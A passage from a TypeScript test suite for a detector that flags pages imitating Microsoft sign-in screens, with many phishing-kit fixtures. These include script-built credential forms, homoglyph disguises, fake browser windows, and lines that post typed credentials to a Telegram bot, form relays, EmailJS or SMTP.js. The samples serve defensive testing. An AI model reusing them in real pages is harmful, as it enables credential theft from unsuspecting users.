import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { analyseSavedPage } from '../../../scripts/lib/saved-page';
import { buildPageSnapshot } from '../../../src/content/page-snapshot';
import { analysePage, classifyUrl, PageSnapshotSchema } from '../../../src/core/detection';
import { readPageSignals } from '../../../src/core/detection/page-signals';
import { readableText } from '../../../src/core/detection/page-text';

function snapshot(html: string, url: string) {
  const { document } = parseHTML(html);
  return buildPageSnapshot(document as unknown as Document, {}, url);
}

function verdict(html: string, url = 'https://portal.example.net/login') {
  const result = analysePage(url, snapshot(html, url));
  return { verdict: result.verdict, codes: result.reasons.map((r) => r.code) };
}

const page = (title: string, body: string) =>
  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}</body></html>`;
const EMAIL = '<input type="email" name="email" placeholder="Email">';
const PASSWORD = '<input type="password" name="password" placeholder="Password">';

describe('readableText', () => {
  it.each([
    ['0ffice 365', 'office 365'],
    ['Micr0soft acc0unt', 'microsoft account'],
    ['M i c r o s o f t', 'microsoft'],
    ['Mi\u200bcro\u200dsoft', 'microsoft'],
    ['\u0130nbox', 'inbox'],
    ['\u041eutl\u043e\u043ek', 'outlook'],
    ['\uff2d\uff49\uff43\uff52\uff4f\uff53\uff4f\uff46\uff54', 'microsoft'],
    ['Mot de passe oubli\u00e9', 'mot de passe oublie'],
    ['Office 365 costs 10 dollars', 'office 365 costs 10 dollars'],
    ['Email, Phone or Skype', 'email phone or skype'],
    ['WINDOWS S1GN 1N.', 'windows sign in.'],
    ['VVINDOWS SIGN IN', 'windows sign in'],
    ['a savvy reader', 'a savvy reader'],
    ['Model 1N4148', 'model 1n4148'],
  ])('reads %j as %j', (input, expected) => {
    expect(readableText(input)).toBe(expected);
  });
});

describe('page snapshot: kit marks', () => {
  it('reads Microsoft’s field ids and a masked text box in a form a script joins from pieces', () => {
    const html = page(
      'Sign in to your account',
      `<img src="images/mcsft_logo.svg" alt="Micr0soft"><div id="slot"></div>
       <script>var p=['<form method="post" action="next.php">','<input name="login" type="email" id="i0116">',
       '<input name="pass" type="text" style="','-webkit-text-security: disc;','" id="i0118"></form>'];
       document.getElementById('slot').innerHTML=p.join('');</script>`,
    );
    const snap = snapshot(html, 'https://docs-review.example/Office365/index.php');
    expect(snap.fields).toEqual([]);
    expect(snap.marks).toEqual(expect.arrayContaining(['type=password', 'microsoft-field-id']));
    expect(verdict(html, 'https://docs-review.example/x/index.php').verdict).toBe('lookalike');
    // The same page's script without Microsoft's ids or the mask asks for nothing it can see.
    const plain = html.replaceAll('i011', 'box').replace('-webkit-text-security: disc;', '');
    expect(verdict(plain, 'https://docs-review.example/x/index.php').verdict).toBe('other');
  });

  it('names where scripts send data, script-built markup and logo colours, never the code', () => {
    const html = page(
      'x',
      `<script>var token="123:SECRET-TOKEN";fetch("https://api.telegram.org/bot"+token+"/sendMessage");
       document.write(unescape("%3Cp%3E"));</script>
       <svg><rect fill="#F25022"/><rect fill="#7FBA00"/><rect fill="#00A4EF"/><rect fill="#FFB900"/></svg>
       <i class="fa fa-windows"></i>${PASSWORD}`,
    );
    const snap = snapshot(html, 'https://kit.example.net/');
    expect(PageSnapshotSchema.safeParse(snap).success).toBe(true);
    expect(snap.marks).toEqual(
      expect.arrayContaining([
        'api.telegram.org',
        'document.write',
        'unescape',
        '#f25022',
        '#7fba00',
        '#00a4ef',
        '#ffb900',
        'icon-font',
      ]),
    );
    expect(JSON.stringify(snap)).not.toContain('SECRET');
  });

  it('sees inputs placed over a background picture, inline or by style sheet', () => {
    const inline = page(
      '',
      `<div style="background-image:url('shot_o365.png')"><div style="position:absolute;top:40px">${EMAIL}</div></div>`,
    );
    const look = snapshot(inline, 'https://a.example/').look;
    expect(look?.backgrounds).toBeGreaterThan(0);
    expect(look?.placedInputs).toBe(1);
    const plain = snapshot(page('', `<div>${EMAIL}${PASSWORD}</div>`), 'https://a.example/');
    expect(plain.look).toEqual({ backgrounds: 0, placedInputs: 0 });
    const sheet = `<html><head><style>body{background:url(img/bg.jpg)}.x{position:absolute;top:9px}</style></head>
      <body><input class="x" type="text" name="u"><input class="x" type="password" name="p"></body></html>`;
    const snap = snapshot(sheet, 'https://a.example/');
    expect(snap.look?.backgrounds).toBeGreaterThan(0);
    expect(snap.look?.placedInputs).toBe(2);
    expect(snap.assetFiles).toContain('bg.jpg');
  });

  it('reads a page with a long inline script in one pass, placed inputs still found', () => {
    // A kit's base64 blobs: 800 KB without a brace. Looking back for a selector from every
    // position took minutes on such a page (and froze it in the browser).
    const blob = `<script>var d="${'QUJD'.repeat(25_000)}";}</script>`.repeat(8);
    const html = `<html><head>${blob}<style>${'{'.repeat(50_000)}}</style>
      <style>body{background:url(bg.jpg)} #u , .box{position:absolute;top:9px}</style></head>
      <body><input id="u" type="text" name="u"><input class="box" type="password" name="p"></body></html>`;
    expect(snapshot(html, 'https://a.example/').look?.placedInputs).toBe(2);
  });

  it('counts links and bounds the marks', () => {
    const links = '<a href="/a">a</a>'.repeat(50);
    const scripts = Array.from({ length: 40 }, (_, i) => `<script>x${i}="#f25022"</script>`);
    const snap = snapshot(page('', `${links}${scripts.join('')}`), 'https://a.example/');
    expect(snap.links).toBe(50);
    expect((snap.marks ?? []).length).toBeLessThanOrEqual(24);
  });
});

const OFFICE_CARD = page(
  'Microsoft 365',
  `<img src="img/logo.png" alt=""><h1>Microsoft 365</h1><form action="login.php" method="post">
   <p>Sign in</p>${EMAIL}${PASSWORD}<a href="#">Forgot password?</a><button>Sign in</button></form>`,
);
const OWA_COPY = page(
  'Outlook',
  `<form action="owa.php" method="post"><h1>Outlook</h1><label>Domain\\user name:</label>
   <input type="text" name="username" id="username"><label>Password:</label>${PASSWORD}
   <input type="hidden" name="destination"><input type="hidden" name="flags"><input type="hidden" name="forcedownlevel">
   <button>sign in</button></form>`,
);
const ON_PREM_OWA = OWA_COPY.replace('action="owa.php"', 'action="/owa/auth.owa"');

describe('the page model', () => {
  it('flags a plain "Microsoft 365" email-and-password card, naming it a sign-in copy', () => {
    expect(verdict(OFFICE_CARD).codes[0]).toBe('cloned-sign-in-page');
    const minimal = page(
      'Login | Microsoft Office',
      `<h2>Office 365</h2><form action="post.php">${EMAIL}${PASSWORD}<button>Sign In</button></form>`,
    );
    expect(verdict(minimal).codes[0]).toBe('cloned-sign-in-page');
  });

  it('flags an email-only "secure document" first step that names OneDrive', () => {
    const step = page(
      'Shared Document',
      `<p>Microsoft OneDrive</p><p>You have received a secure document. Enter your email to view.</p>
       <form action="next.php">${EMAIL}<button>Next</button></form>`,
    );
    expect(verdict(step).codes[0]).toBe('shared-document-lure');
  });

  it('flags an Outlook Web App copy and says so first', () => {
    const result = verdict(OWA_COPY, 'https://mail-update.example.net/owa/');
    expect(result).toMatchObject({ verdict: 'lookalike' });
    expect(result.codes[0]).toBe('owa-copy');
  });

  it('leaves an organisation’s own OWA alone, but not one that posts to a chat bot', () => {
    const own = verdict(ON_PREM_OWA, 'https://mail.contoso.example/owa/auth/logon.aspx');
    expect(own).toEqual({ verdict: 'other', codes: ['organisation-sign-in-page'] });
    const bot = ON_PREM_OWA.replace(
      '</form>',
      '</form><script>fetch("https://api.telegram.org/bot1:AA/sendMessage")</script>',
    );
    const result = verdict(bot, 'https://mail.contoso.example/owa/auth/logon.aspx');
    expect(result.verdict).toBe('lookalike');
    expect(result.codes).toContain('sends-to-outside-service');
  });

  it.each([
    ['/owa/auth/owaauth.dll', 'https://mail.contoso.example/owa/auth/logon.aspx'],
    [
      '/owa/auth/expiredpassword.aspx',
      'https://mail.contoso.example/owa/auth/expiredpassword.aspx',
    ],
    ['/exchweb/bin/auth/owaauth.dll', 'https://mail.contoso.example/exchweb/bin/auth/owalogon.asp'],
  ])('knows Exchange’s own endpoint %s', (action, url) => {
    expect(verdict(OWA_COPY.replace('action="owa.php"', `action="${action}"`), url).verdict).toBe(
      'other',
    );
  });

  it('is not fooled by a kit posting to a script under /owa/ or a relay named for OWA', () => {
    const php = OWA_COPY.replace('action="owa.php"', 'action="/owa/p.php"');
    expect(verdict(php, 'https://mail.contoso.example/owa/').verdict).toBe('lookalike');
    expect(verdict(ON_PREM_OWA, 'https://mail-contoso-com.owa-sso.example/owa/').verdict).toBe(
      'lookalike',
    );
  });

  it.each([
    'webmail.graphicdesigninstitute.example',
    'mail.smithassociates.example',
    'owa.cityauthority.example',
  ])(
    'leaves the own OWA of an organisation whose name holds a trick word’s letters (%s)',
    (host) => {
      expect(verdict(ON_PREM_OWA, `https://${host}/owa/auth/logon.aspx`).verdict).toBe('other');
    },
  );

  it.each(['secureowa.example', 'mail-signin-portal.example'])(
    'is not fooled by a relay named for the trick (%s)',
    (host) => {
      expect(verdict(ON_PREM_OWA, `https://${host}/owa/auth/logon.aspx`).verdict).toBe('lookalike');
    },
  );

  it('calls a copy keeping Outlook Web App’s theme files an OWA copy, whatever its field names', () => {
    const copy = page(
      'Outlook',
      `<link rel="stylesheet" href="/owa/auth/15.1.1591/themes/resources/logon.css">
       <form action="https://formsubmit.co/x@example.net" method="post"><input type="email" name="email02">
       <input type="password" name="password"><label>Show password</label><button>sign in</button></form>`,
    );
    expect(verdict(copy, 'https://mailbox-sync-portal.example/').codes[0]).toBe('owa-copy');
  });

  it('leaves an organisation’s own Remote Desktop Web Access alone, not a copy posting elsewhere', () => {
    const rdweb = page(
      'RD Web Access',
      `<form id="FrmLogin" action="login.aspx" method="post"><img src="../images/mslogo_black.png">
       <label>Domain\\user name:</label><input type="text" name="DomainUserName" id="DomainUserName">
       <label>Password:</label><input type="password" name="UserPass" id="UserPass">
       <input type="hidden" name="isUtf8" value="1"><input type="hidden" name="flags" value="0">
       <input type="radio" id="rdoPblc" name="MachineType">This is a public or shared computer
       <input type="radio" id="rdoPrvt" name="MachineType">This is a private computer<button>Sign in</button></form>`,
    );
    const own =
      'https://remote.contoso.example/RDWeb/Pages/en-US/login.aspx?ReturnUrl=/RDWeb/Pages/en-US/Default.aspx';
    expect(verdict(rdweb, own)).toEqual({ verdict: 'other', codes: ['organisation-sign-in-page'] });
    const kit = rdweb.replace('action="login.aspx"', 'action="/RDWeb/Pages/en-US/next.php"');
    expect(verdict(kit, own).verdict).toBe('lookalike');
    // RD Web Access deployments name their folder as the base: the form posts to /RDWeb/login.aspx.
    const withBase = rdweb.replace(
      '<form',
      '<base href="https://remote.contoso.example/RDWeb/"><form',
    );
    expect(verdict(withBase, own).verdict).toBe('other');
  });

  it('calls an organisation’s own MFA Server user portal its own page, not a copy posting elsewhere', () => {
    const portal = page(
      'Multi-Factor Authentication User Portal: User Log In',
      `<form name="aspnetForm" method="post" action="./login.aspx"><img src="images/spacer.gif" alt="PhoneFactor">
       <span>Version 8.0.1</span> <span>© 2018 Microsoft. All rights reserved.</span>
       <h1>Multi-Factor Authentication User Log In</h1>
       <label>Username</label><input name="ctl00$pageContent$txtUsername" type="text">
       <label>Password</label><input name="ctl00$pageContent$txtPassword" type="password">
       <div style="display:none">We've contacted you for multi-factor authentication. Please respond to continue.</div>
       <input type="submit" value="Log In"></form>`,
    );
    const own = 'https://mfa.contoso.example/MultiFactorAuth/login.aspx';
    expect(verdict(portal, own)).toEqual({
      verdict: 'other',
      codes: ['organisation-sign-in-page'],
    });
    const elsewhere = portal.replace(
      'action="./login.aspx"',
      'action="https://collect.example/p.php"',
    );
    expect(verdict(elsewhere, own).codes).not.toContain('organisation-sign-in-page');
  });

  it('leaves AD FS alone', () => {
    const adfs = page(
      'Sign In',
      `<form method="post" action="/adfs/ls/?client-request-id=1"><p>Sign in with your organizational account</p>
       <input type="email" name="UserName" id="userNameInput"><input type="password" name="Password">
       <input type="hidden" name="AuthMethod" value="FormsAuthentication"><span>Sign in</span></form>
       <p>© 2024 Microsoft</p>`,
    );
    expect(verdict(adfs, 'https://sts.fabrikam.example/adfs/ls/?wa=wsignin1.0').verdict).toBe(
      'other',
    );
  });

  it('flags AD FS’s own form away from /adfs/ (a re-hosted copy), not a carrier’s "kmsi" box', () => {
    const form = (action: string, ids: string) =>
      page(
        'Sign In',
        `<form method="post" action="${action}"><p>Sign in with your organizational account</p>
         ${ids}<span>Sign in</span></form><p>© 2018 Microsoft</p>`,
      );
    const adfsIds =
      '<input type="email" name="UserName" id="userNameInput"><input type="text" name="Password" id="passwordInput"><input type="checkbox" name="Kmsi" id="kmsiInput">';
    expect(verdict(form('next.php', adfsIds), 'https://pinegrove-docs.example/o365/').verdict).toBe(
      'lookalike',
    );
    expect(
      verdict(form('/adfs/ls/', adfsIds), 'https://sts.pinegrove.example/adfs/ls/?wa=wsignin1.0')
        .verdict,
    ).toBe('other');
    const carrier = page(
      'Sign In',
      `<h1>Northwind Wireless</h1><form method="post" action="/signin"><input type="text" name="IDToken1">
       <input type="password" name="IDToken2"><input type="checkbox" name="kmsi" id="kmsi"> Keep me signed in
       <button>Sign in</button></form>`,
    );
    expect(verdict(carrier, 'https://myaccount.northwind.example/signin').verdict).toBe('other');
  });

  it.each([
    ['Russian', 'Microsoft — Вход', '<h1>Вход</h1><p>▦ Microsoft</p>'],
    ['Polish', 'Microsoft — Zaloguj się', '<h1>Zaloguj się</h1><p>Microsoft</p>'],
    [
      'Spanish, older page',
      'PHP - 01',
      '<p>Cuenta Microsoft ¿Qué es esto?</p><label>Mantener la sesión iniciada</label>',
    ],
  ])('reads Microsoft sign-in wording in %s', (_lang, title, body) => {
    const card = page(
      title,
      `${body}<form method="post" action="post.php"><input type="text" name="login"><input type="password" name="password"><button>OK</button></form>`,
    );
    expect(verdict(card, 'https://lab-check.example/l/a1').verdict).toBe('lookalike');
  });

  it('reads a provider chooser beside a document as a lure, a mail app’s setup not', () => {
    const body = (line: string) =>
      `<h2>DocuSign</h2><p>${line}</p><p>Select your email provider</p><button>Office365</button>
       <button>Outlook</button><button>Other Mail</button><div style="display:none"><form method="post"
       action="next.php"><input type="email" name="email"><input type="password" name="password"></form></div>`;
    expect(verdict(page('DocuSign', body('View approved documents'))).codes[0]).toBe(
      'shared-document-lure',
    );
    const setup = page(
      'Connect your mailbox',
      `<h1>Connect your mailbox</h1><p>Choose your email provider to bring your mail in.</p>
       <button>Outlook / Microsoft 365</button><button>Yahoo Mail</button><form method="post" action="/imap">
       <input type="email" name="address"><input type="password" name="imap_password"><button>Connect</button></form>`,
    );
    expect(verdict(setup, 'https://app.tidewater-mail.example/onboarding').verdict).toBe('other');
  });

  it('reads a file service’s chooser of mail providers with a hidden sign-in pop-up as a lure', () => {
    const chooser = page(
      'Share Point Online',
      `<h2>SharePoint Online plans and limits</h2><p>Sign in to continue to SharePoint Online.</p>
       ${['Gmail', 'Outlook', 'Aol', 'Office365', 'Yahoo!', 'Other Mail'].map((o) => `<button>Sign in with ${o}</button>`).join('')}
       <div style="display:none"><form method="post" action="post.php">${EMAIL}${PASSWORD}<button>Continue</button></form></div>`,
    );
    const result = verdict(chooser, 'https://teamsite.example.net/sp/index.php');
    expect(result.verdict).toBe('lookalike');
    expect(result.codes[0]).toBe('shared-document-lure');
    // A comparison of mail services under the same kind of title asks for nothing of the sort.
    const comparison = page(
      'Office 365 vs Gmail vs Yahoo Mail for a small business',
      `<h1>Office 365 vs Gmail vs Yahoo Mail</h1><p>Outlook wins on calendars, Gmail on search, Yahoo on free storage; AOL mail is still around.</p>
       <form action="/subscribe" method="post">${EMAIL}<button>Subscribe</button></form>`,
    );
    expect(verdict(comparison, 'https://smallbiz-tech.example/compare').verdict).toBe('other');
  });

  it('reads a provider chooser with no form, whose form is on its next page, as a lure', () => {
    const chooser = (title: string, line: string) =>
      page(
        title,
        `<h2>${title}</h2><p>${line}</p><a href="o365.php">Login with Office 365</a>
         <a href="ol.php">Login with Outlook</a><a href="other.php">Login with Other Mail</a>`,
      );
    const lure = verdict(
      chooser('One Drive', 'To read the document, please choose your email provider below.'),
    );
    expect(lure).toEqual({ verdict: 'lookalike', codes: expect.any(Array) });
    expect(lure.codes[0]).toBe('shared-document-lure');
    // No form on the page: it is not said to ask for credentials itself.
    expect(lure.codes).not.toContain('credential-form');
    expect(
      verdict(chooser('Secure Files', 'You have a new file. Select your email provider.')).verdict,
    ).toBe('lookalike');
    // The same list where an app connects a mailbox, or a page with no document at all.
    expect(
      verdict(
        chooser(
          'Connect your inbox',
          'Log emails and files to your deals. Choose your email provider.',
        ),
        'https://app.pipeline.example/settings',
      ).verdict,
    ).toBe('other');
    expect(verdict(chooser('Welcome', 'Choose your email provider below.')).verdict).toBe('other');
    // A document service's own sign-in choices: Microsoft as an identity, not a mailbox.
    const share = page(
      'Contract.pdf',
      `<h1>Alex shared a document with you</h1><p>Sign in to view it.</p>
       <a href="/g">Continue with Google</a><a href="/m">Continue with Microsoft</a>`,
    );
    expect(verdict(share, 'https://sign.paperflow.example/d/1').verdict).toBe('other');
  });

  it('flags an email-only "shared document" first step as a document lure', () => {
    const lure = page(
      'OneDrive',
      `<div style="filter:blur(4px)"><img src="doc.png"></div><h2>OneDrive</h2>
       <p>Anna shared a file with you. Sign in to view the document.</p><form action="next.php">${EMAIL}<button>Next</button></form>`,
    );
    expect(verdict(lure).codes[0]).toBe('shared-document-lure');
  });

  it('flags a screenshot kit by its layout when something names Microsoft', () => {
    const kit = `<html><head><title>Sign in to your account</title><style>body{background:url(img/outlook_bg.jpg)}
      .x{position:absolute;left:400px}</style></head><body><form action="p.php">
      <input class="x" type="text" name="u"><input class="x" type="password" name="p"></form></body></html>`;
    expect(verdict(kit).codes[0]).toBe('screenshot-sign-in-page');
    // The same layout with nothing Microsoft about it says nothing about Microsoft.
    expect(verdict(kit.replace('outlook_bg', 'bg')).verdict).toBe('other');
    // Microsoft's sample address as the placeholder is something Microsoft's, even spelt "sorneone".
    for (const sample of ['someone@example.com', 'sorneone@example.com']) {
      const withSample = kit
        .replace('outlook_bg', 'bg')
        .replace('name="u"', `name="u" placeholder="${sample}"`);
      expect(verdict(withSample).codes[0]).toBe('screenshot-sign-in-page');
    }
    // On an ordinary login it is only a placeholder.
    const ordinary = page(
      'Log in – Riverside bookings',
      `<h1>Log in</h1><form method="post" action="/login"><input type="email" name="email" placeholder="someone@example.com">
       <input type="password" name="password"><button>Log in</button></form>`,
    );
    expect(verdict(ordinary, 'https://book.riverside.example/login').verdict).toBe('other');
  });

  it.each([
    [
      'German',
      'Microsoft-Konto',
      '<h1>Anmelden</h1><p>Microsoft-Konto</p><p>Kennwort eingeben</p><a href="#">Kennwort vergessen?</a>',
    ],
    [
      'Portuguese',
      'Conta Microsoft',
      '<h1>Entrar</h1><p>Conta Microsoft</p><p>Inserir senha</p><a href="#">Esqueci minha senha</a>',
    ],
    [
      'French',
      'Compte Microsoft',
      '<h1>Se connecter</h1><p>Entrez le mot de passe</p><p>Rester connecté ?</p>',
    ],
  ])('flags a %s "Microsoft account" form', (_, title, body) => {
    expect(
      verdict(page(title, `<form action="x.php">${body}${EMAIL}${PASSWORD}</form>`)).verdict,
    ).toBe('lookalike');
  });

  it('reads through disguised text and says the page hides Microsoft’s name', () => {
    const disguised = page(
      'Sign in',
      `<h1>Mi\u200bcro\u200bsoft</h1><p>S\u0456gn in to your acc\u043eunt</p>${EMAIL}${PASSWORD}<p>Forgot password?</p>`,
    );
    const result = verdict(disguised);
    expect(result.verdict).toBe('lookalike');
    expect(result.codes).toContain('disguised-text');
  });

  it('does not call a name disguised when the page writes it plainly in a box', () => {
    // Microsoft's own placeholder; the only other odd character is an emoji in the kit's script.
    const card = page(
      'Sign in to your account',
      `<h1>Sign in</h1><form action="x.php"><input type="email" name="u" placeholder="Email, Phone or Skype">
       ${PASSWORD}</form><a href="#">Can’t access your account?</a><script>var m="💎 new log";</script>`,
    );
    const result = verdict(card);
    expect(result.verdict).toBe('lookalike');
    expect(result.codes).not.toContain('disguised-text');
  });

  it.each(['Email, phone, or Skype', 'Email, Phone or Skype', 'Email phone or Skype'])(
    'reads the placeholder %j as Microsoft’s wording',
    (placeholder) => {
      const url = 'https://portal.example.net/login';
      const step = page(
        'Sign in',
        `<form><input type="text" name="login" placeholder="${placeholder}"></form>`,
      );
      expect(readPageSignals(snapshot(step, url)).flowPhrases).toBe(1);
      expect(readPageSignals(snapshot(page('Sign in', EMAIL), url)).flowPhrases).toBe(0);
    },
  );

  it('flags a password step whose only Microsoft links are Microsoft’s own ("Use my Microsoft app")', () => {
    const step = page(
      'Microsoft Account - Enter Password',
      `<h1>Let's add your Microsoft account</h1>
       <div class="logo"><div style="background:#f25022"></div><div style="background:#7fba00"></div>
       <div style="background:#00a4ef"></div><div style="background:#ffb900"></div><span>Microsoft</span></div>
       <label for="p">Enter password</label><input type="password" id="p" autocomplete="current-password">
       <a href="#">Forgot password?</a><a href="#">Use my Microsoft app</a><button>Sign in</button>`,
    );
    expect(verdict(step).verdict).toBe('lookalike');
  });

  it('flags Microsoft’s newer password step, its "Other ways to sign in" one of its phrases', () => {
    const step = page(
      '',
      `<form action="../next.php" method="post"><img src="data:image/png;base64,AAAA">
       <input type="text" name="email" readonly><h1>Enter password</h1>${PASSWORD}
       <a href="#">Forgot password?</a><a href="#">Other ways to sign in</a><button>Sign in</button></form>
       <footer><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></footer>`,
    );
    const url = 'https://mail-verify.example.net/webmail/outlook.html';
    expect(readPageSignals(snapshot(step, url)).flowPhrases).toBe(1);
    expect(verdict(step, url).verdict).toBe('lookalike');
  });

  it.each([
    ['Formspark', 'https://submit-form.com/Qz4hTn8Rw'],
    ['Getform', 'https://getform.io/f/0c1d2e3f'],
    ['Basin', 'https://usebasin.com/f/a1b2c3d4e5f6'],
  ])(
    'names a form posting to %s as a relay, and flags a bare Office card posting there',
    (service, action) => {
      const card = page(
        'Excel Online',
        `<form method="post" action="${action}"><h1>Please log in with your correct email and password</h1>
       ${EMAIL}${PASSWORD}<input type="submit" value="Continue"></form><small>&copy; 2026 Microsoft</small>`,
      );
      expect(readPageSignals(snapshot(card, 'https://docs.example.net/')).exfiltration).toEqual([
        service,
      ]);
      expect(verdict(card, 'https://docs.example.net/').verdict).toBe('lookalike');
    },
  );

  it('names a relay a script sends to (Formspark, EmailJS), never the code around it', () => {
    const snap = snapshot(
      page(
        'x',
        `<script>fetch("https://submit-form.com/SECRET1",{method:"POST"});emailjs.send("svc","tpl",{p:1});</script>${PASSWORD}`,
      ),
      'https://kit.example.net/',
    );
    expect(readPageSignals(snap).exfiltration).toEqual(['Formspark', 'EmailJS']);
    expect(JSON.stringify(snap)).not.toContain('SECRET1');
  });

  it.each([
    ['written backwards', '<h1 style="unicode-bidi:bidi-override;direction:rtl">tfosorciM</h1>'],
    ['drawn as SVG text', '<svg><text x="0" y="20">Microsoft</text></svg>'],
    ['generated by CSS', '<style>.b::before{content:"Microsoft"}</style><h1 class="b"></h1>'],
  ])('finds Microsoft’s name %s and calls it disguised', (_, name) => {
    const result = verdict(
      page('Sign in', `${name}<p>Sign in</p>${EMAIL}${PASSWORD}<a href="#">Forgot my password</a>`),
    );
    expect(result.verdict).toBe('lookalike');
    expect(result.codes).toContain('disguised-text');
  });

  it('flags a fake browser window showing Microsoft’s address', () => {
    const bitb = page(
      'Sign in',
      `<div class="window"><div class="bar">https://login.microsoftonline.com/common/oauth2/authorize</div>
       <h1>Sign in</h1>${EMAIL}${PASSWORD}</div>`,
    );
    expect(verdict(bitb).codes[0]).toBe('fake-browser-window');
  });

  it('reads misspelt Microsoft names in the address path', () => {
    const card = page('Sign in', `<p>Outlook</p>${EMAIL}${PASSWORD}`);
    const result = verdict(card, 'https://files.example.net/login/microosoftonline/com/step2.php');
    expect(result.verdict).toBe('lookalike');
    expect(result.codes).toContain('microsoft-name-in-address');
  });

  it('lets a Microsoft name in the address lower the bar', () => {
    // Outlook only in passing (a card headed "Outlook" claims to be it: see below).
    const card = page(
      'Sign in',
      `<p>Questions? Ask the service desk about Outlook</p>${EMAIL}${PASSWORD}`,
    );
    expect(verdict(card, 'https://files.example.net/docs/').verdict).toBe('other');
    const result = verdict(card, 'https://files.example.net/office365/');
    expect(result.verdict).toBe('lookalike');
    expect(result.codes).toContain('microsoft-name-in-address');
  });

  it("counts the address's Microsoft name for a sign-in page, not for a page about the product", () => {
    const shop = (title: string) =>
      page(
        title,
        `<div class="login"><h1>Login</h1><form action="submit.php"><label>Username:</label>
         <input type="text" name="username">${PASSWORD}<input type="submit" value="login"></form>
         <a href="register.html">Register</a></div><a href="cart.html">Cart</a>
         <h2>Product</h2><p>Office 365 Personal: a year of Word, Excel and Outlook for one person.</p>
         <img src="images/office365.png" alt="">`,
      );
    const url = 'https://www.pc-shop.example/office365.html';
    expect(verdict(shop('Product page'), url).verdict).not.toBe('lookalike');
    // The same form under a title that says it is for signing in is a login page at that address.
    expect(verdict(shop('Sign in'), url).verdict).toBe('lookalike');
    expect(verdict(shop('Account verification'), url).verdict).toBe('lookalike');
  });

  it('takes a password box with no sign-in words and no account box for a lock, not a sign-in', () => {
    const url = 'https://status.example.it/microsoft-365.html';
    const lock = page(
      'MICROSOFT 365 SERVER',
      `<h1>Server status</h1><form><label>Choose the status:</label>${PASSWORD}<button>Unlock</button></form>`,
    );
    expect(verdict(lock, url).verdict).not.toBe('lookalike');
    // Microsoft's password step names what it asks for, and a copy of it is still flagged.
    const step = page(
      'MICROSOFT 365',
      `<h1>Enter password</h1><form>${PASSWORD}<button>Sign in</button></form><a href="#">Forgot my password</a>`,
    );
    expect(verdict(step, url).verdict).toBe('lookalike');
    expect(verdict(step, 'https://status.example.it/check.html').verdict).toBe('lookalike');
  });
});

describe('kit code and styles beside a little of Microsoft’s wording', () => {
  const card = (extra: string) =>
    page(
      'Log in',
      `<form action="#"><img src="https://pictures.example-cdn.net/a/mark.png" alt=""><b>Sign in</b>
       ${EMAIL}${PASSWORD}<b>Can't access your account?</b><button>Sign in</button></form>${extra}`,
    );
  const url = 'https://files-review.example-pages.io/app.html';
  const smtp =
    '<script src="https://smtpjs.com/v3/smtp.js"></script><script>Email.send({ To: "x@example.net" });</script>';

  it('names a mail relay loaded by script as where the page sends what is typed', () => {
    const signals = readPageSignals(snapshot(card(smtp), url));
    expect(signals.exfiltration).toContain('SMTP.js');
    // Pictures from another service's host send nothing.
    const pictures =
      '<img src="https://cdn.discordapp.com/a.png"><img src="https://x.netlify.app/b.png">';
    expect(readPageSignals(snapshot(card(pictures), url)).exfiltration).toEqual([]);
  });

  it('takes kit code with one phrase of Microsoft’s flow as a Microsoft imitation', () => {
    expect(verdict(card(smtp), url).verdict).toBe('lookalike');
    expect(verdict(card(''), url).verdict).not.toBe('lookalike');
    // Kit code under another company's wording is phishing, but not Microsoft's.
    const plain = card(smtp).replace("Can't access your account?", 'Need help?');
    expect(verdict(plain, url).verdict).not.toBe('lookalike');
  });

  it('lets Microsoft’s sign-in font stack be the third of its phrases, never a sign alone', () => {
    const style =
      '<style>body{font-family:"Segoe UI Webfont",-apple-system,"Segoe Xbox Symbol","Segoe UI Symbol"}</style>';
    const step = (extra: string, phrases: string) =>
      page('', `${extra}<h1>Enter password</h1><form>${PASSWORD}</form>${phrases}`);
    const two = '<p>No account? <a href="#">Create one!</a></p><a href="#">Sign-in options</a>';
    expect(readPageSignals(snapshot(step(style, two), url)).microsoftFontStack).toBe(true);
    expect(verdict(step(style, two), url).verdict).toBe('lookalike');
    expect(verdict(step('', two), url).verdict).not.toBe('lookalike');
    expect(verdict(step(style, '<a href="#">Sign-in options</a>'), url).verdict).not.toBe(
      'lookalike',
    );
  });
});

describe('a log-in that says it shares the account with Microsoft’s services', () => {
  const url = 'https://learn.example-university.ac.uk/login/index.php';
  const login = (form: string) =>
    page(
      'Log in to the site',
      `<p>Use the same username and password as you would for Outlook or Office 365.</p>
       <p>Your session has timed out. Please log in again.</p>${form}<a href="#">Forgot your password?</a>`,
    );

  it('is another service’s log-in, not a Microsoft imitation', () => {
    const own = `<form method="post"><label>Username</label><input type="text" name="username">${PASSWORD}<button>Log in</button></form>`;
    expect(verdict(login(own), url).verdict).not.toBe('lookalike');
    // Without the sentence, the session line and the name below make a Microsoft alert page.
    const noComparison = login(own).replace(
      'Use the same username and password as you would for Outlook or Office 365.',
      'Outlook and Office 365 are ready.',
    );
    expect(verdict(noComparison, url).verdict).toBe('lookalike');
  });

  it('explains nothing on a copy of Microsoft’s form', () => {
    const copied = `<form method="post"><input type="email" name="loginfmt" id="i0116">
      <input type="password" name="passwd" id="i0118"><button>Sign in</button></form>`;
    expect(verdict(login(copied), url).verdict).toBe('lookalike');
  });
});

describe('the page model never flags', () => {
  it('a third-party login with a "Sign in with Microsoft" button beside its own form', () => {
    const sso = page(
      'Sign in · Northwind CRM',
      `<h1>Sign in to Northwind CRM</h1><form action="/users/sign_in" method="post">
       <input type="text" name="user[login]" autocomplete="username">${PASSWORD}
       <a href="/password/new">Forgot your password?</a><button>Sign in</button></form>
       <p>or sign in with</p><a href="/auth/azure"><img src="microsoft-logo.svg" alt="Microsoft"> Sign in with Microsoft</a>
       <a href="/auth/office365">Office 365</a>`,
    );
    expect(verdict(sso, 'https://crm.northwind.example/users/sign_in').verdict).toBe('other');
  });

  it('an article about Microsoft sign-in with a newsletter box', () => {
    const article = page(
      'How to sign in to your Microsoft account',
      `<article><h1>How to sign in to your Microsoft account</h1><p>Go to the Microsoft account page, choose
       Sign in, then Enter password. If you see "Stay signed in?", pick Yes on your own computer.</p></article>
       <form action="/subscribe"><p>Get our newsletter</p><input type="email" name="EMAIL" id="mce-EMAIL"><button>Subscribe</button></form>`,
    );
    expect(verdict(article, 'https://tips.example.org/microsoft-sign-in').verdict).toBe('other');
  });

  it.each([
    [
      'Connexion - Boutique Lumière',
      'Se connecter',
      'Rester connecté ?',
      'Pas de compte ? Créez-en un',
    ],
    ['Sign in - Sun Shop', 'Sign in', 'Stay signed in?', 'No account? Create one!'],
